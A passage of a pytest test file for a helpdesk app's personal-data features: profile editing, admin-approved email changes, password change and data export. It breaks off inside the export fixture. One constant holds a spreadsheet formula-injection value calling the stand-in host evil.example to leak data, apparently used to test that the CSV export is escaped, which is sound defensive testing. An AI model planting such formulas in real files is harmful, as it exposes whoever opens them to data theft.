"""A person's own data: My Info / My Information (access and rectification),
the email change request (ask, admin decides, the new address confirms, over a
real SMTP server once), the password change, and "download my data" (a streamed
ZIP of JSON, CSV and files with only the person's own data)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import zipfile

import pytest

from desk import audit
from desk.db import db
from desk.models import AgentDepartment
from desk.models import AuditEntry
from desk.models import Comment
from desk.models import EmailChangeRequest
from desk.models import MailMessage
from desk.models import Ticket
from desk.models import User
from desk.models import utcnow
from desk.services import mail
from desk.services import tickets as ticket_service
from desk.services.attachments import Upload
from tests import factories
from tests.conftest import CSRF_RE
from tests.conftest import csrf_token
from tests.conftest import login
from tests.conftest import post_form
from tests.smtp import Collector
from tests.smtp import smtp_server
from tests.conftest import browser
from tests.conftest import signed_in

PASSWORD = factories.PASSWORD
LINK_RE = re.compile(r"https?://\S+?(/confirm-email/[A-Za-z0-9_\-]+)")


# --- helpers ------------------------------------------------------------------



def sign_in_as(client, user, password: str = PASSWORD, **extra):
    resp = login(client, user.email, password, **extra)
    assert resp.status_code == 302, resp.get_data(as_text=True)
    return client


def can_sign_in(app, address: str, password: str = PASSWORD) -> bool:
    resp = login(browser(app), address, password)
    assert resp.status_code in (302, 400), resp.status_code
    return resp.status_code == 302


def row(user) -> dict:
    """The user's row as stored now."""
    return dict(User.get_by_id(user.id).__data__)


def info_form(user, **changes) -> dict:
    """The My Info form as a browser sends it, with the current values."""
    fresh = User.get_by_id(user.id)
    data = {"name": fresh.name, "phone": fresh.phone, "mobile": fresh.mobile,
            "timezone": fresh.timezone, "language": fresh.language}
    if fresh.is_agent:
        data.update(title=fresh.title, signature=fresh.signature)
    data.update(changes)
    return data


def mails_to(address: str, subject_contains: str = "") -> list[MailMessage]:
    return [m for m in MailMessage.select().where(MailMessage.recipient == address)
            .order_by(MailMessage.id) if subject_contains in m.subject]


def entries(record_type: str | None = None, record_id=None, action: str | None = None):
    query = AuditEntry.select().order_by(AuditEntry.seq)
    if record_type is not None:
        query = query.where(AuditEntry.record_type == record_type)
    if record_id is not None:
        query = query.where(AuditEntry.record_id == str(record_id))
    if action is not None:
        query = query.where(AuditEntry.action == action)
    return list(query)


def newest_user_update(user) -> AuditEntry:
    """The newest update entry about the user's own row, whatever its record_type says."""
    found = [e for e in entries(record_id=user.id, action="update") if e.subject_id == user.id
             and e.record_type not in ("Ticket", "Comment", "Attachment", "EmailChangeRequest")]
    assert found, "no update entry about the user"
    return found[-1]


def upload(name: str, data: bytes) -> Upload:
    return Upload(name, io.BytesIO(data))


def join(agent, department) -> None:
    audit.create(audit.SYSTEM, AgentDepartment, agent=agent, department=department)


def export(client) -> dict[str, bytes]:
    """POST /my/data-export and return the ZIP's files."""
    resp = post_form(client, "/my/data-export", {})
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    assert resp.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(resp.get_data())) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def csv_rows(data: bytes) -> list[dict]:
    assert data.startswith("\ufeff".encode("utf-8")), data[:20]
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def approve_link(app, admin, req) -> str:
    """Admin approves ``req``; returns the link path from the mail to the new address."""
    admin_browser = signed_in(app, admin)
    resp = post_form(admin_browser, f"/agent/settings/email-changes/{req.id}/approve", {},
                     form_page="/agent/settings/email-changes")
    assert resp.status_code == 302, resp.get_data(as_text=True)
    message = mails_to(req.new_email, "Confirm")[-1]
    match = LINK_RE.search(message.body)
    assert match, message.body
    return match.group(1)


def ask_for(client, new_email: str):
    return post_form(client, "/my/email-change", {"new_email": new_email}, form_page="/my/info")


def post_with(client, path: str, data: dict, token: str):
    """POST with a CSRF token read once (saves a page render per request in loops)."""
    return client.post(path, data={**data, "csrf_token": token})


def page_text(resp) -> str:
    return resp.get_data(as_text=True)


# --- fixtures -----------------------------------------------------------------

@pytest.fixture
def ann(ctx):
    return factories.end_user(name="Ann Example", email="ann@example.com")


@pytest.fixture
def zeb(ctx):
    """Another end user with a distinctive name that must never leak."""
    return factories.end_user(name="Zebulon Quixotic", email="zebulon.q@example.org")


@pytest.fixture
def admin(ctx):
    return factories.admin(name="Ada Admin", email="ada@example.com")


@pytest.fixture
def ann_browser(ctx, client, ann):
    return sign_in_as(client, ann)


# --- My Info (end users) ------------------------------------------------------

def test_my_info_shows_the_persons_details_and_ticket_count(ctx, ann_browser, ann, zeb):
    audit.update(audit.SYSTEM, ann, phone="+44 20 7946 0000", mobile="+44 7700 900123",
                 timezone="Asia/Shanghai", language="en")
    for n in range(3):
        factories.ticket(ann, subject=f"Ann ticket {n}")
    gone = factories.ticket(ann, subject="Deleted one")
    audit.update(audit.SYSTEM, gone, deleted_at=utcnow())
    factories.ticket(zeb, subject="Not Ann's")

    resp = ann_browser.get("/my/info")
    html = page_text(resp)
    assert resp.status_code == 200 and "My Info" in html
    assert 'value="Ann Example"' in html
    assert re.search(r'id="email-shown" type="email" value="ann@example.com" readonly', html)
    assert 'name="email"' not in html  # shown, not an editable field
    assert 'value="+44 20 7946 0000"' in html and 'value="+44 7700 900123"' in html
    assert re.search(r'<option selected value="Asia/Shanghai">', html)
    assert re.search(r'<option selected value="en">', html)
    assert re.search(r'<a href="/my/tickets">3 tickets', html)
    assert 'name="title"' not in html and 'name="signature"' not in html
    assert "Zebulon" not in html


def test_my_info_save_changes_every_field_and_audits_old_and_new(ctx, ann_browser, ann):
    audit.update(audit.SYSTEM, ann, phone="+1 555 0100")
    resp = post_form(ann_browser, "/my/info", info_form(
        ann, name="Ann Changed", phone="+1 (555) 0199", mobile="+86 138 0000 0000",
        timezone="Europe/Berlin", language="zh_Hans"))
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/my/info")
    now = row(ann)
    assert (now["name"], now["phone"], now["mobile"], now["timezone"], now["language"]) == (
        "Ann Changed", "+1 (555) 0199", "+86 138 0000 0000", "Europe/Berlin", "zh_Hans")
    assert now["email"] == "ann@example.com"
    entry = newest_user_update(ann)
    assert entry.actor_id == ann.id and entry.record_id == str(ann.id)
    assert audit.read_changes(entry) == {
        "name": ["Ann Example", "Ann Changed"],
        "phone": ["+1 555 0100", "+1 (555) 0199"],
        "mobile": ["", "+86 138 0000 0000"],
        "timezone": ["UTC", "Europe/Berlin"],
        "language": ["", "zh_Hans"],
    }
    assert "Ann Changed" not in entry.changes  # personal values are sealed at rest
    # The page now speaks the chosen language and shows the saved values.
    html = page_text(ann_browser.get("/my/info"))
    assert 'value="Ann Changed"' in html and 'lang="zh-Hans"' in html

    # Saving the same values again changes and audits nothing.
    before, count = row(ann), AuditEntry.select().count()
    assert post_form(ann_browser, "/my/info", info_form(ann), headers={"Accept-Language": "en"}
                     ).status_code == 302
    assert row(ann) == before and AuditEntry.select().count() == count


def test_my_info_save_is_audited_on_the_user_record(ctx, ann_browser, ann):
    post_form(ann_browser, "/my/info", info_form(ann, phone="+1 555 0199"))
    entry = entries("User", ann.id)[-1]
    assert audit.read_changes(entry)["phone"] == ["", "+1 555 0199"]


def test_who_may_open_which_page(ctx, client, ann):
    for path in ("/my/info", "/agent/settings/my-info", "/my/data-export"):
        resp = client.get(path)
        assert resp.status_code == 302 and "/login" in resp.headers["Location"], path
    # An end user cannot open, or post to, the agents' page.
    sign_in_as(client, ann)
    assert client.get("/agent/settings/my-info").status_code == 403
    before = row(ann)
    resp = post_form(client, "/agent/settings/my-info", info_form(ann, title="CEO"), form_page="/my/info")
    assert resp.status_code == 403 and row(ann) == before
    # An agent's /my/info is the agents' page.
    mia = factories.agent(name="Mia Agent", email="mia@example.com")
    agent_browser = signed_in(ctx, mia)
    resp = agent_browser.get("/my/info")
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/agent/settings/my-info")


def test_a_post_carrying_email_changes_nothing_and_says_how(ctx, ann_browser, ann):
    before, count = row(ann), AuditEntry.select().count()
    resp = post_form(ann_browser, "/my/info",
                     info_form(ann, name="Sneaky Rename", email="sneaky@example.com"))
    html = page_text(resp)
    assert resp.status_code == 400
    assert "Your email address was not changed" in html and "Change email address" in html
    assert row(ann) == before and AuditEntry.select().count() == count
    assert User.get_or_none(User.email == "sneaky@example.com") is None
    assert EmailChangeRequest.select().count() == 0
    # Even the unchanged address, or an empty one, in the post is refused.
    for value in ("ann@example.com", ""):
        resp = post_form(ann_browser, "/my/info", info_form(ann, phone="+1 555", email=value))
        assert resp.status_code == 400 and row(ann) == before


BAD_INFO = [
    ({"name": ""}, "This field is required."),
    ({"name": "   "}, "This field is required."),
    ({"name": "x" * 10_000}, "Field cannot be longer than 200 characters."),
    ({"name": "😀" * 201}, "Field cannot be longer than 200 characters."),
    ({"name": "Nul\x00Byte"}, "control characters"),
    ({"phone": "call me"}, "A phone number has digits"),
    ({"mobile": "call me maybe"}, "A phone number has digits"),
    ({"phone": "5" * 10_000}, "Field cannot be longer than 50 characters."),
    ({"phone": "+1 555\x00"}, "control characters"),
    ({"timezone": "Mars/Olympus"}, "Choose a time zone from the list."),
    ({"timezone": "Europe/Berlin\x00"}, "Choose a time zone from the list."),
    ({"timezone": "x" * 10_000}, "Choose a time zone from the list."),
    ({"timezone": ""}, "Choose a time zone from the list."),
    ({"language": "xx"}, "Choose a language from the list."),
    ({"language": "en\x00"}, "Choose a language from the list."),
]


def test_bad_my_info_input_is_refused_clearly(ctx, ann_browser, ann):
    before, count = row(ann), AuditEntry.select().count()
    token = csrf_token(ann_browser, "/my/info")
    for bad, message in BAD_INFO:
        resp = post_with(ann_browser, "/my/info", info_form(ann, **{"name": "Ann Renamed", **bad}), token)
        assert resp.status_code == 400, (bad, resp.status_code)
        assert message in page_text(resp), bad
        assert row(ann) == before and AuditEntry.select().count() == count, bad
    # Missing or forged CSRF token.
    resp = ann_browser.post("/my/info", data=info_form(ann, name="No Token"))
    assert resp.status_code == 400 and "The form expired" in page_text(resp)
    resp = ann_browser.post("/my/info", data={**info_form(ann, name="Bad Token"), "csrf_token": "forged"})
    assert resp.status_code == 400
    # Odd shapes: repeated values, fields nobody may set here.
    for data in ({"name": ["Two", "Values"], "timezone": ["UTC", "Mars/Olympus"]},
                 {"name": "Ann", "is_active": "0", "kind": "agent", "session_token": "x",
                  "password_hash": "x", "role": "1"}):
        resp = ann_browser.post("/my/info", data={"csrf_token": token, **data})
        assert resp.status_code < 500, (data, resp.status_code)
    now = row(ann)
    assert {k: now[k] for k in ("kind", "is_active", "session_token", "password_hash", "role", "email")} == {
        k: before[k] for k in ("kind", "is_active", "session_token", "password_hash", "role", "email")}


# --- My Information (agents) ----------------------------------------------------

def test_agent_my_information_edits_title_and_signature_too(ctx, client):
    mia = factories.agent(name="Mia Agent", email="mia@example.com")
    sign_in_as(client, mia)
    html = page_text(client.get("/agent/settings/my-info"))
    assert "My Information" in html and "Personal Settings" in html
    assert 'value="mia@example.com" readonly' in html and 'name="email"' not in html
    assert 'name="title"' in html and 'name="signature"' in html

    resp = post_form(client, "/agent/settings/my-info", info_form(
        mia, name="Mia Müller", title="Team lead 组长", signature="Mia\nSupport team",
        phone="+49 30 1234567", timezone="Europe/Berlin"))
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/agent/settings/my-info")
    now = row(mia)
    assert (now["name"], now["title"], now["signature"], now["phone"], now["timezone"]) == (
        "Mia Müller", "Team lead 组长", "Mia\nSupport team", "+49 30 1234567", "Europe/Berlin")
    changes = audit.read_changes(newest_user_update(mia))
    assert changes["title"] == ["", "Team lead 组长"]
    assert changes["signature"] == ["", "Mia\nSupport team"]
    assert changes["name"] == ["Mia Agent", "Mia Müller"]
    html = page_text(client.get("/agent/settings/my-info"))
    assert 'value="Team lead 组长"' in html and "Mia\nSupport team</textarea>" in html

    # The email address is not edited here either.
    before = row(mia)
    resp = post_form(client, "/agent/settings/my-info",
                     info_form(mia, title="Boss", email="boss@example.com"))
    assert resp.status_code == 400 and "Your email address was not changed" in page_text(resp)
    assert row(mia) == before

    # Bad input.
    count, token = AuditEntry.select().count(), csrf_token(client, "/agent/settings/my-info")
    for bad, message in [
        ({"title": "t" * 10_000}, "Field cannot be longer than 200 characters."),
        ({"title": "Boss\x00"}, "control characters"),
        ({"signature": "s" * 10_000}, "Field cannot be longer than 2000 characters."),
        ({"signature": "Bye\x00\x01"}, "control characters"),
        ({"name": ""}, "This field is required."),
        ({"phone": "call me"}, "A phone number has digits"),
        ({"timezone": "Mars/Olympus"}, "Choose a time zone from the list."),
        ({"language": "xx"}, "Choose a language from the list."),
    ]:
        resp = post_with(client, "/agent/settings/my-info", info_form(mia, **{"title": "X", **bad}), token)
        assert resp.status_code == 400 and message in page_text(resp), bad
        assert row(mia) == before and AuditEntry.select().count() == count, bad


# --- email change: asking -----------------------------------------------------

def test_asking_for_a_new_address_creates_a_pending_request_and_tells_the_old_address(
        ctx, ann_browser, ann):
    resp = ask_for(ann_browser, "Ann.New@Example.com")
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/my/info")
    req = EmailChangeRequest.get(EmailChangeRequest.user == ann.id)
    assert (req.status, req.new_email, req.token_hash) == ("pending", "ann.new@example.com", None)
    assert row(ann)["email"] == "ann@example.com"
    told = mails_to("ann@example.com", "Your email change request")
    assert len(told) == 1 and "received your request" in told[0].body
    assert "ann.new@example.com" in told[0].body
    assert mails_to("ann.new@example.com") == []  # nothing to the new address before approval
    assert [e.action for e in entries("EmailChangeRequest", req.id)] == ["create"]
    assert entries("EmailChangeRequest", req.id)[0].actor_id == ann.id
    html = page_text(ann_browser.get("/my/info"))
    assert "You asked to change your address to ann.new@example.com" in html
    # Still the old sign-in name.
    assert can_sign_in(ctx, "ann@example.com") and not can_sign_in(ctx, "ann.new@example.com")
    # Asking again replaces the open request.
    assert ask_for(ann_browser, "second@example.com").status_code == 302
    statuses = {r.new_email: r.status for r in EmailChangeRequest.select()}
    assert statuses == {"ann.new@example.com": "cancelled", "second@example.com": "pending"}


def _answer(client, address: str) -> tuple:
    """What the person sees after asking: status, where to, and that page."""
    resp = ask_for(client, address)
    page = CSRF_RE.sub("", page_text(client.get(resp.headers.get("Location", "/my/info"))))
    return resp.status_code, resp.headers.get("Location"), page.replace(address.lower(), "ADDRESS")


def test_an_address_in_use_answers_as_if_free_and_tells_its_owner(ctx, ann_browser, ann, zeb, admin):
    free = _answer(ann_browser, "free.address@example.com")
    taken = _answer(ann_browser, "ZEBULON.Q@example.org")
    assert free[0] == 302 and free == taken  # nothing tells the two apart
    assert "Zebulon" not in taken[2] and "Quixotic" not in taken[2]
    assert len(mails_to("ann@example.com", "Your email change request")) == 2  # as usual, twice
    told = mails_to("zebulon.q@example.org", "Someone asked")
    assert len(told) == 1 and told[0].subject == "Someone asked to use your email address"
    assert "Ann" not in told[0].body and "ann@example.com" not in told[0].body
    assert told[0].subject_id == zeb.id
    # The admin cannot approve it, and Zebulon's account is untouched.
    req = EmailChangeRequest.get(EmailChangeRequest.status == "pending")
    resp = post_form(signed_in(ctx, admin), f"/agent/settings/email-changes/{req.id}/approve", {},
                     form_page="/agent/settings/email-changes")
    assert resp.status_code == 409 and "This address cannot be used" in page_text(resp)
    assert mails_to("zebulon.q@example.org", "Confirm") == [] and row(zeb)["name"] == "Zebulon Quixotic"


def test_two_people_may_ask_for_one_address_and_the_first_approved_gets_it(ctx, ann_browser, ann,
                                                                           zeb, admin):
    assert ask_for(signed_in(ctx, zeb), "wanted@example.com").status_code == 302
    assert ask_for(ann_browser, "wanted@example.com").status_code == 302
    zebs, anns = (EmailChangeRequest.get(EmailChangeRequest.user == who.id) for who in (zeb, ann))
    approve_link(ctx, admin, anns)
    resp = post_form(signed_in(ctx, admin), f"/agent/settings/email-changes/{zebs.id}/approve", {},
                     form_page="/agent/settings/email-changes")
    assert resp.status_code == 409
    assert EmailChangeRequest.get_by_id(zebs.id).status == "pending"


def test_email_change_requests_are_rate_limited_per_person(make_app):
    app = make_app(EMAIL_CHANGE_LIMIT="3 per hour")
    with app.app_context():
        ann = factories.end_user(email="ann@example.com")
        zeb = factories.end_user(email="zeb@example.com")
        client = signed_in(app, ann)
        assert ask_for(client, "not an address").status_code == 400  # not counted
        statuses = [ask_for(client, f"new{n}@example.com").status_code for n in range(5)]
        assert statuses == [302, 302, 302, 429, 429]
        assert EmailChangeRequest.select().count() == 3
        assert ask_for(signed_in(app, zeb), "zeb.new@example.com").status_code == 302


def test_bad_new_addresses_are_refused(ctx, ann_browser, ann):
    token = csrf_token(ann_browser, "/my/info")
    for address, message in [
        ("ann@example.com", "That is already your address."),
        ("ANN@Example.COM", "That is already your address."),
        ("not-an-address", "Enter a valid email address."),
        ("", "Enter your new email address."),
        ("a" * 10_000 + "@example.com", "Field cannot be longer than 254 characters."),
        ("nul\x00@example.com", "control characters"),
    ]:
        resp = post_with(ann_browser, "/my/email-change", {"new_email": address}, token)
        assert resp.status_code == 400 and message in page_text(resp), address[:40]
    resp = ann_browser.post("/my/email-change", data={"new_email": "x@example.com"})
    assert resp.status_code == 400  # no CSRF token
    assert EmailChangeRequest.select().count() == 0
    assert row(ann)["email"] == "ann@example.com"
    assert mails_to("ann@example.com", "email change") == []


# --- email change: the admin's queue -------------------------------------------

def test_the_queue_is_for_admins_only(ctx, ann_browser, ann, admin):
    ask_for(ann_browser, "ann.new@example.com")
    admin_browser = signed_in(ctx, admin)
    html = page_text(admin_browser.get("/agent/settings/email-changes"))
    assert "Ann Example" in html and "ann@example.com" in html and "ann.new@example.com" in html
    mia = factories.agent(name="Mia Agent", email="mia@example.com")
    agent_browser = signed_in(ctx, mia)
    req = EmailChangeRequest.get()
    assert agent_browser.get("/agent/settings/email-changes").status_code == 403
    token = csrf_token(agent_browser, "/agent/settings/my-info")
    for action, data in (("approve", {}), ("reject", {"reason": "No"})):
        resp = agent_browser.post(f"/agent/settings/email-changes/{req.id}/{action}",
                                  data={**data, "csrf_token": token})
        assert resp.status_code == 403, action
    assert ann_browser.get("/agent/settings/email-changes").status_code == 403
    assert EmailChangeRequest.get_by_id(req.id).status == "pending"
    assert mails_to("ann.new@example.com") == []


def test_reject_with_a_reason_tells_the_person(ctx, ann_browser, ann, admin):
    ask_for(ann_browser, "ann.new@example.com")
    req = EmailChangeRequest.get()
    admin_browser = signed_in(ctx, admin)
    resp = post_form(admin_browser, f"/agent/settings/email-changes/{req.id}/reject", {"reason": ""},
                     form_page="/agent/settings/email-changes")
    assert resp.status_code == 400 and "Say why" in page_text(resp)
    assert EmailChangeRequest.get_by_id(req.id).status == "pending"

    reason = "Please use your company address (请使用公司邮箱)."
    resp = post_form(admin_browser, f"/agent/settings/email-changes/{req.id}/reject",
                     {"reason": reason}, form_page="/agent/settings/email-changes")
    assert resp.status_code == 302
    req = EmailChangeRequest.get_by_id(req.id)
    assert req.status == "rejected" and req.reason == reason and req.decided_by == admin.id
    declined = mails_to("ann@example.com", "declined")
    assert len(declined) == 1 and reason in declined[0].body
    assert mails_to("ann.new@example.com") == []
    assert "No requests waiting." in page_text(admin_browser.get("/agent/settings/email-changes"))
    assert row(ann)["email"] == "ann@example.com"
    update = entries("EmailChangeRequest", req.id, "update")[-1]
    assert update.actor_id == admin.id
    assert audit.read_changes(update)["status"] == ["pending", "rejected"]
    assert audit.read_changes(update)["reason"] == ["", reason]
    # A decided request cannot be decided again.
    resp = post_form(admin_browser, f"/agent/settings/email-changes/{req.id}/approve", {},
                     form_page="/agent/settings/email-changes")
    assert resp.status_code == 404 and EmailChangeRequest.get_by_id(req.id).status == "rejected"
    assert mails_to("ann.new@example.com") == []


# --- email change: approve and confirm ----------------------------------------

def test_the_whole_email_change(ctx, ann_browser, ann, admin):
    ask_for(ann_browser, "ann.new@example.com")
    req = EmailChangeRequest.get()
    link = approve_link(ctx, admin, req)
    req = EmailChangeRequest.get_by_id(req.id)
    assert req.status == "approved" and req.decided_by == admin.id and req.token_hash
    assert link.split("/")[-1] not in req.token_hash  # only the hash is stored
    hours = (req.expires_at - utcnow()).total_seconds() / 3600
    assert 23.5 < hours <= 24
    assert "24 hours" in mails_to("ann.new@example.com", "Confirm")[0].body
    assert "Approved: open the link we sent to ann.new@example.com" in page_text(
        ann_browser.get("/my/info"))

    # Until the link is followed, the old address is the sign-in name.
    assert row(ann)["email"] == "ann@example.com"
    assert can_sign_in(ctx, "ann@example.com") and not can_sign_in(ctx, "ann.new@example.com")

    resp = ann_browser.get(link)
    assert resp.status_code == 200 and "Confirm your new email address" in page_text(resp)
    assert row(ann)["email"] == "ann@example.com"  # a GET (e.g. a mail scanner) changes nothing

    resp = post_form(ann_browser, link, {})
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/my/info")
    assert row(ann)["email"] == "ann.new@example.com"
    assert "Your email address is now ann.new@example.com" in page_text(ann_browser.get("/my/info"))
    req = EmailChangeRequest.get_by_id(req.id)
    assert req.status == "confirmed" and req.confirmed_at is not None
    for address in ("ann@example.com", "ann.new@example.com"):
        changed = mails_to(address, "Your email address was changed")
        assert len(changed) == 1, address
        assert "from ann@example.com to ann.new@example.com" in changed[0].body

    # Every step is in the audit log.
    steps = entries("EmailChangeRequest", req.id)
    assert [e.action for e in steps] == ["create", "update", "update"]
    assert [e.actor_id for e in steps] == [ann.id, admin.id, ann.id]
    assert all(e.subject_id == ann.id for e in steps)
    assert audit.read_changes(steps[0])["new_email"] == [None, "ann.new@example.com"]
    approved = audit.read_changes(steps[1])
    assert approved["status"] == ["pending", "approved"] and approved["token_hash"] == [None, "[secret]"]
    assert audit.read_changes(steps[2])["status"] == ["approved", "confirmed"]
    email_entry = newest_user_update(ann)
    assert audit.read_changes(email_entry)["email"] == ["ann@example.com", "ann.new@example.com"]
    assert email_entry.actor_id == ann.id

    # The link works once.
    resp = post_form(ann_browser, link, {})
    assert resp.status_code == 400 and "already used" in page_text(resp)
    assert len(mails_to("ann.new@example.com", "Your email address was changed")) == 1

    # From now on only the new address signs in.
    assert can_sign_in(ctx, "ann.new@example.com") and not can_sign_in(ctx, "ann@example.com")


def test_the_confirmed_address_change_is_audited_on_the_user_record(ctx, ann_browser, ann, admin):
    ask_for(ann_browser, "ann.new@example.com")
    link = approve_link(ctx, admin, EmailChangeRequest.get())
    assert post_form(ann_browser, link, {}).status_code == 302
    changes = audit.read_changes(entries("User", ann.id, "update")[-1])
    assert changes["email"] == ["ann@example.com", "ann.new@example.com"]


def test_an_expired_link_changes_nothing(ctx, ann_browser, ann, admin):
    ask_for(ann_browser, "ann.new@example.com")
    req = EmailChangeRequest.get()
    link = approve_link(ctx, admin, req)
    req = EmailChangeRequest.get_by_id(req.id)
    audit.update(audit.SYSTEM, req, expires_at=utcnow() - dt.timedelta(minutes=1))
    assert ann_browser.get(link).status_code == 200
    resp = post_form(ann_browser, link, {})
    assert resp.status_code == 400 and "expired" in page_text(resp)
    assert row(ann)["email"] == "ann@example.com"
    assert EmailChangeRequest.get_by_id(req.id).status == "approved"
    assert mails_to("ann@example.com", "was changed") == []
    assert can_sign_in(ctx, "ann@example.com") and not can_sign_in(ctx, "ann.new@example.com")


def test_a_link_for_another_account_is_not_found_and_changes_nothing(ctx, ann_browser, ann, zeb, admin):
    ask_for(ann_browser, "ann.new@example.com")
    link = approve_link(ctx, admin, EmailChangeRequest.get())
    zeb_before, ann_before = row(zeb), row(ann)
    # Signed out: sign in first.
    resp = browser(ctx).get(link)
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    # Signed in as someone else: not found, whoever it is.
    for other in (zeb, admin):
        resp = post_form(signed_in(ctx, other), link, {})
        assert resp.status_code == 404 and "not valid for your account" in page_text(resp)
    assert row(zeb) == zeb_before and row(ann) == ann_before
    assert EmailChangeRequest.get().status == "approved"
    # Made-up links are not found either.
    csrf = csrf_token(ann_browser, "/my/info")
    for token in ("not-a-token", "x" * 5000, "%00", "😀"):
        resp = post_with(ann_browser, f"/confirm-email/{token}", {}, csrf)
        assert resp.status_code == 404, token[:20]
    assert row(ann) == ann_before
    # The owner still can.
    assert post_form(ann_browser, link, {}).status_code == 302
    assert row(ann)["email"] == "ann.new@example.com" and row(zeb) == zeb_before


def test_an_address_taken_after_approval_is_refused_at_confirmation(ctx, ann_browser, ann, admin):
    ask_for(ann_browser, "ann.new@example.com")
    link = approve_link(ctx, admin, EmailChangeRequest.get())
    factories.end_user(name="Late Comer", email="ann.new@example.com")
    resp = post_form(ann_browser, link, {})
    assert resp.status_code == 409 and "Late Comer" not in page_text(resp)
    assert row(ann)["email"] == "ann@example.com"


# --- email change over a real SMTP server -----------------------------------------

def test_email_change_mail_goes_through_a_real_smtp_server(make_app):
    collector = Collector()
    with smtp_server(collector) as server:
        app = make_app(SMTP_HOST="127.0.0.1", SMTP_PORT=server.port, SMTP_TIMEOUT=5,
                       BASE_URL="https://help.example.com")
        with app.app_context():
            db.connect(reuse_if_open=True)
            try:
                ann = factories.end_user(name="Ann Example", email="ann@example.com")
                admin = factories.admin(name="Ada Admin", email="ada@example.com")
                ann_browser = signed_in(app, ann)
                assert ask_for(ann_browser, "ann.new@example.com").status_code == 302
                req = EmailChangeRequest.get()
                admin_browser = signed_in(app, admin)
                resp = post_form(admin_browser, f"/agent/settings/email-changes/{req.id}/approve", {},
                                 form_page="/agent/settings/email-changes")
                assert resp.status_code == 302
                sent, failed = mail.deliver_pending(app.config)
                assert failed == 0 and sent >= 2

                received = collector.messages()
                confirm = [m for m in received if m["To"] == "ann.new@example.com"]
                assert len(confirm) == 1 and confirm[0]["Subject"] == "Confirm your new email address"
                assert confirm[0]["From"] == "help@desk.test"
                assert [m for m in received if m["To"] == "ann@example.com"
                        and m["Subject"] == "Your email change request"]
                body = confirm[0].get_content()
                match = re.search(r"https://help\.example\.com(/confirm-email/[A-Za-z0-9_\-]+)", body)
                assert match, body
                link = match.group(1)

                assert ann_browser.get(link).status_code == 200
                assert post_form(ann_browser, link, {}).status_code == 302
                assert row(ann)["email"] == "ann.new@example.com"
                assert mail.deliver_pending(app.config) == (2, 0)
                changed = [m["To"] for m in collector.messages()
                           if m["Subject"] == "Your email address was changed"]
                assert sorted(changed) == ["ann.new@example.com", "ann@example.com"]
                assert can_sign_in(app, "ann.new@example.com") and not can_sign_in(app, "ann@example.com")
            finally:
                if not db.is_closed():
                    db.close()


# --- password -----------------------------------------------------------------

def post_password(client, path: str, data: dict, form_page: str) -> dict:
    """POST as ``client``; the response's status, Location and cookies."""
    resp = client.post(path, data={**data, "csrf_token": csrf_token(client, form_page)})
    return {"status": resp.status_code, "location": resp.headers.get("Location"),
            "cookies": {name: client.get_cookie(name).value
                        for name in ("session", "remember_token") if client.get_cookie(name)}}


def test_wrong_current_or_bad_new_passwords_are_refused(ctx, ann_browser, ann):
    before, token = row(ann), csrf_token(ann_browser, "/my/info")
    for fields, message in [
        ({"current_password": "not my password"}, "The current password is wrong."),
        ({"current_password": ""}, "Enter your current password."),
        ({"new_password": "short"}, "Field must be between 8 and 1024 characters long."),
        ({"new_password": "p" * 10_000}, "Field must be between 8 and 1024 characters long."),
        ({"new_password": ""}, "Choose a new password."),
        ({"new_password": "nul\x00byte password"}, "control characters"),
    ]:
        data = {"current_password": PASSWORD, "new_password": "a brand new password", **fields}
        resp = post_with(ann_browser, "/my/password", data, token)
        assert resp.status_code == 400 and message in page_text(resp), fields
        assert row(ann) == before, fields
    resp = ann_browser.post("/my/password", data={"current_password": PASSWORD,
                                                  "new_password": "a brand new password"})
    assert resp.status_code == 400 and row(ann) == before  # no CSRF token
    assert ann_browser.get("/my/password").status_code == 405
    assert ann_browser.get("/my/tickets").status_code == 200
    assert can_sign_in(ctx, "ann@example.com", PASSWORD)
    assert not can_sign_in(ctx, "ann@example.com", "a brand new password")


def test_password_change_swaps_passwords_and_signs_out_other_sessions(ctx, ann_browser, ann):
    other = signed_in(ctx, ann, remember="y")       # e.g. a laptop with "remember me"
    remembered = signed_in(ctx, ann, remember="y")  # a browser restarted: only the remember cookie
    remembered.delete_cookie("session")
    assert other.get("/my/tickets").status_code == 200
    assert remembered.get("/my/tickets").status_code == 200
    before = row(ann)

    post_password(ann_browser, "/my/password",
                          {"current_password": PASSWORD, "new_password": "a brand new password"},
                          form_page="/my/info")

    now = row(ann)
    assert now["password_hash"] != before["password_hash"]
    assert now["session_token"] != before["session_token"]
    assert can_sign_in(ctx, "ann@example.com", "a brand new password")
    assert not can_sign_in(ctx, "ann@example.com", PASSWORD)
    for signed_out in (other, remembered):
        resp = signed_out.get("/my/tickets")
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    entry = newest_user_update(ann)
    assert entry.actor_id == ann.id
    changes = audit.read_changes(entry)
    assert changes == {"password_hash": ["[secret]", "[secret]"],
                       "session_token": ["[secret]", "[secret]"]}


def test_password_change_keeps_this_session_signed_in(ctx, ann_browser, ann):
    result = post_password(ann_browser, "/my/password",
                                   {"current_password": PASSWORD, "new_password": "a brand new password"},
                                   form_page="/my/info")
    assert result["status"] == 302 and result["location"].endswith("/my/info")
    for name, value in result["cookies"].items():
        ann_browser.set_cookie(name, value)
    resp = ann_browser.get("/my/info")
    assert resp.status_code == 200 and "Your password was changed." in page_text(resp)


# --- data export ----------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'


@pytest.fixture
def world(ctx, ann, zeb):
    """Ann with tickets, a conversation with a private note, files and an edit;
    Zebulon with his own; an agent who worked Ann's ticket."""
    support = factories.department("Support")
    mia = factories.agent(name="Mia Agent", email="mia@example.com")
    join(mia, support)
    first = ticket_service.submit(ann, "打印机着火了", "办公室的打印机冒烟了。", support.id,
                                  [upload("照片.png", PNG), upload("notes.txt", b"ann's own notes\r\n")])
    formula = ticket_service.submit(ann, HYPERLINK, "-1+2 looks like a formula", support.id)
